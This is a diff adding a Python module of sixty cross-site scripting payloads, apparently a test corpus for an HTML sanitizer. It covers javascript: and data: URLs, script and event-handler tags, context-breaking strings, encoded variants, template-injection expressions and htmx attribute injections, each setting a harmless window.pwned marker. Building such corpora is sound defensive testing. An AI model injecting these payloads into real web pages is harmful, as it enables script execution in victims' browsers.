@@ -1,0 +1,78 @@
+"""Sixty texts that try to run: each sets `pwned` or calls `alert` where it succeeds."""
+
+RUN = "window.pwned=1"
+EVENTS = (
+    "onload",
+    "onerror",
+    "onfocus",
+    "onmouseover",
+    "ontoggle",
+    "onanimationstart",
+    "hx-on:load",
+    "data-hx-on:click",
+)
+ADDRESSES = (
+    f"javascript:{RUN}",
+    f"JaVaScRiPt:{RUN}",
+    f" javascript:{RUN}",
+    f"java\tscript:{RUN}",
+    f"java\nscript:{RUN}",
+    f"\x01javascript:{RUN}",
+    f"javascript&colon;{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    f"data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==#{RUN}",
+    f"vbscript:{RUN}",
+    f'https://a.example/" onclick="{RUN}',
+    f"//a.example/' onclick='{RUN}",
+)
+ELEMENTS = (
+    f"<script>{RUN}</script>",
+    f"<ScRiPt>{RUN}</sCrIpT>",
+    f"<script src='data:text/javascript,{RUN}'></script>",
+    f"<img src=x onerror={RUN}>",
+    f"<svg/onload={RUN}>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<math><mtext></mtext><script>{RUN}</script></math>",
+    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{RUN}'></iframe>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<embed src='javascript:{RUN}'>",
+    f"<a href='javascript:{RUN}'>x</a>",
+    f"<form action='javascript:{RUN}'><button>x</button></form>",
+    f"<details open ontoggle={RUN}>",
+    f"<input autofocus onfocus={RUN}>",
+    f"<video><source onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}>",
+    f"<body onload={RUN}>",
+    f"<marquee onstart={RUN}>",
+    f"<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={RUN}>",
+    f"<link rel=stylesheet href='javascript:{RUN}'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<base href='javascript:{RUN}//'>",
+    f"<template><script>{RUN}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+)
+BREAKS = (
+    f'"><script>{RUN}</script>',
+    f"'><img src=x onerror={RUN}>",
+    f"</template><script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"--><script>{RUN}</script>",
+    f"]]><script>{RUN}</script>",
+    f"\u2028<script>{RUN}</script>",
+    f"&lt;script&gt;{RUN}&lt;/script&gt;",
+    f"&#60;img src=x onerror={RUN}&#62;",
+    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
+    f"{{{{constructor.constructor('{RUN}')()}}}}",
+    f"${{{RUN}}}",
+)
+ATTACKS = (
+    *ADDRESSES,
+    *ELEMENTS,
+    *BREAKS,
+    *(f'" {event}="{RUN}" x="' for event in EVENTS),
+)
+assert len(set(ATTACKS)) == 60
